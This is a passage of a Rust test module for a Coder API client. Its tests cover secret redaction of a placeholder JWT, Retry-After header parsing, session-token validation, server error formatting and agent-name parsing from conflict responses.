        let jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJhdWQiOiJjb2RlciIsImlzcyI6Imh0dHBzOi8vYWNjb3VudHMuZ29vZ2xlLmNvbSJ9.c2lnbmF0dXJlLXZhbHVlLWxvbmctZW5vdWdoLXRvLW1hdHRlcg";
        let mut r = Redactor::new();
        r.add(jwt);
        let chunks: Vec<String> = jwt
            .as_bytes()
            .chunks(23)
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect();
        let mut prefixed: Vec<String> = chunks
            .iter()
            .enumerate()
            .map(|(i, c)| format!("n{i:02}-{c}"))
            .collect();
        prefixed.reverse();
        for names in [chunks.clone(), prefixed] {
            let mut listed = vec!["main".to_string(), "dev".to_string()];
            listed.extend(names.iter().cloned());
            let body = serde_json::json!({
                "message": format!("Set CODER_AGENT_NAME to one of: {}", listed.join(", "))
            })
            .to_string();
            let Err(Attempt::Stop(Failure::Ambiguous(a))) =
                classify(&answer(409, body.as_bytes()), &r)
            else {
                panic!()
            };
            assert_eq!(a.names, ["dev", "main"]);
            assert!(
                a.notes[0].starts_with(&format!("{} listed name(s) were withheld", names.len())),
                "{:?}",
                a.notes
            );
            // Nor are they shown in Coder's message.
            for c in &chunks {
                assert!(!a.message.contains(c.as_str()), "{}", a.message);
            }
        }
    }

    #[test]
    fn retry_after_forms() {
        let now = std::time::UNIX_EPOCH + Duration::from_secs(784_111_777); // Sun, 06 Nov 1994 08:49:37 GMT
        assert_eq!(parse_retry_after("60", now), Some(Duration::from_secs(60)));
        assert_eq!(
            parse_retry_after("Sun, 06 Nov 1994 08:50:37 GMT", now),
            Some(Duration::from_secs(60))
        );
        assert_eq!(
            parse_retry_after("Sun, 06 Nov 1994 08:00:00 GMT", now),
            Some(Duration::ZERO)
        );
        assert_eq!(
            parse_retry_after("999999999", now),
            Some(Duration::from_secs(86_400))
        );
        assert_eq!(parse_retry_after("soon", now), None);
        assert_eq!(parse_retry_after("-5", now), None);
    }

    #[test]
    fn retry_after_dates_across_months_leap_days_and_eras() {
        // Each date 60 s after `now`, so the cap of a day never hides an error.
        let at = |secs: u64, date: &str| {
            let now = std::time::UNIX_EPOCH + Duration::from_secs(secs - 60);
            assert_eq!(
                parse_retry_after(date, now),
                Some(Duration::from_secs(60)),
                "{date}"
            );
        };
        at(949_276_800, "Mon, 31 Jan 2000 00:00:00 GMT");
        at(951_868_799, "Tue, 29 Feb 2000 23:59:59 GMT");
        at(951_868_800, "Tue, 29 Feb 2000 23:59:60 GMT"); // a leap second
        at(951_868_800, "Wed, 01 Mar 2000 00:00:00 GMT");
        at(4_107_499_200, "Sun, 28 Feb 2100 12:00:00 GMT");
        at(13_569_465_599, "Fri, 31 Dec 2399 23:59:59 GMT");
        at(13_574_649_600, "Wed, 01 Mar 2400 00:00:00 GMT");
        let now = std::time::UNIX_EPOCH;
        for junk in [
            "Mon, 00 Jan 2000 00:00:00 GMT",
            "Mon, 32 Jan 2000 00:00:00 GMT",
            "Mon, 31 Jan 2000 24:00:00 GMT",
            "Mon, 31 Jan 2000 00:60:00 GMT",
            "Mon, 31 Jan 2000 00:00:61 GMT",
            "Mon, 31 Jan 2000 00:00:00 UTC",
            "Mon, 31 Jan 2000 00:00:00 GMT extra",
            "Mon, 31 Foo 2000 00:00:00 GMT",
            "Mon, 31 Jan 2000 00:00 GMT",
            "Mon, 31 Jan 2000 00:00:00:00 GMT",
        ] {
            assert_eq!(parse_retry_after(junk, now), None, "{junk}");
        }
    }

    #[test]
    fn what_a_token_is_refused_for_is_said() {
        let longest = format!("{{\"session_token\":\"{}\"}}", "a".repeat(TOKEN_MAX));
        assert!(
            c(200, longest.as_bytes()).is_ok(),
            "{TOKEN_MAX} bytes is a token"
        );
        for (body, what) in [
            (&br#"{"session_token":"a\nb"}"#[..], "contains a line break"),
            (br#"{"session_token":"a\u0000b"}"#, "contains a NUL byte"),
            (
                br#"{"session_token":"a\u001b[31mb"}"#,
                "contains an escape sequence",
            ),
            (
                br#"{"session_token":"a\u0007b"}"#,
                "contains the control character U+0007",
            ),
            (
                br#"{"session_token":"a\u007fb"}"#,
                "contains the control character U+007F",
            ),
            (
                "{\"session_token\":\"caf\u{e9}\"}".as_bytes(),
                "contains the non-ASCII character U+00E9",
            ),
        ] {
            let Err(Attempt::Stop(Failure::Rejected(m))) = c(200, body) else {
                panic!("{what}")
            };
            assert!(m.contains(what), "{m}");
            assert!(m.contains("which is not a Coder token"), "{m}");
        }
    }

    #[test]
    fn server_errors_read_as_coder_writes_them() {
        let e = |body: &str| {
            serde_json::from_str::<ServerError>(body)
                .unwrap()
                .to_string()
        };
        assert_eq!(e(r#"{"message":"Forbidden."}"#), "Forbidden.");
        assert_eq!(e(r#"{"message":"M","detail":"d"}"#), "M (detail: d)");
        assert_eq!(
            e(
                r#"{"message":"M","validations":[{"field":"f","detail":"x"},{"field":"g","detail":"y"}]}"#
            ),
            "M; f: x; g: y"
        );
        assert_eq!(e(r#"{"detail":"d"}"#), "(no message) (detail: d)");
        // With no message, the body is described instead.
        let Err(Attempt::Stop(Failure::Rejected(m))) = c(403, br#"{"detail":"d"}"#) else {
            panic!()
        };
        assert!(
            m.contains("application/json, body starts: {\"detail\":\"d\"}"),
            "{m}"
        );
    }

    #[test]
    fn conflict_notes_only_what_happened() {
        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
            c(409, br#"{"message":"one of: dev, main"}"#)
        else {
            panic!()
        };
        assert_eq!(a.names, ["dev", "main"]);
        assert!(a.notes.is_empty(), "{:?}", a.notes);
        // 64 bytes is a name; 65 is not, and is left out with a note.
        let (ok, long) = ("n".repeat(NAME_MAX), "l".repeat(NAME_MAX + 1));
        let body = serde_json::json!({ "message": format!("one of: {ok}, {long}") }).to_string();
        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body.as_bytes()) else {
            panic!()
        };
        assert_eq!(a.names, [ok]);
        assert_eq!(
            a.notes,
            ["1 name(s) longer than 64 bytes were left out: no Coder agent can have them"]
        );
        // An empty structured list says nothing: the message's names count.
        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
            c(409, br#"{"message":"one of: a, b","agents":[]}"#)
        else {
            panic!()
        };
        assert_eq!(a.names, ["a", "b"]);
        // A structured list is trimmed, and blank entries are no names.
        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
            c(409, br#"{"message":"x","candidates":[" b ","","a"]}"#)
        else {
            panic!()
        };
        assert_eq!(a.names, ["a", "b"]);
    }

    #[test]
    fn candidates_are_sorted_and_unique() {
        let err: ServerError =
            serde_json::from_str(r#"{"message":"one of: main, dev, main, Dev"}"#).unwrap();
        assert_eq!(parse_candidates(&err), ["Dev", "dev", "main"]);
        let err: ServerError = serde_json::from_str(r#"{"message":"nothing to list"}"#).unwrap();
        assert!(parse_candidates(&err).is_empty());
    }

    #[test]
    fn names_from_message() {
        assert_eq!(
            parse_names_from_message("Set CODER_AGENT_NAME to one of: a, b."),
            ["a", "b"]
        );
        assert!(parse_names_from_message("nothing here").is_empty());
    }
}
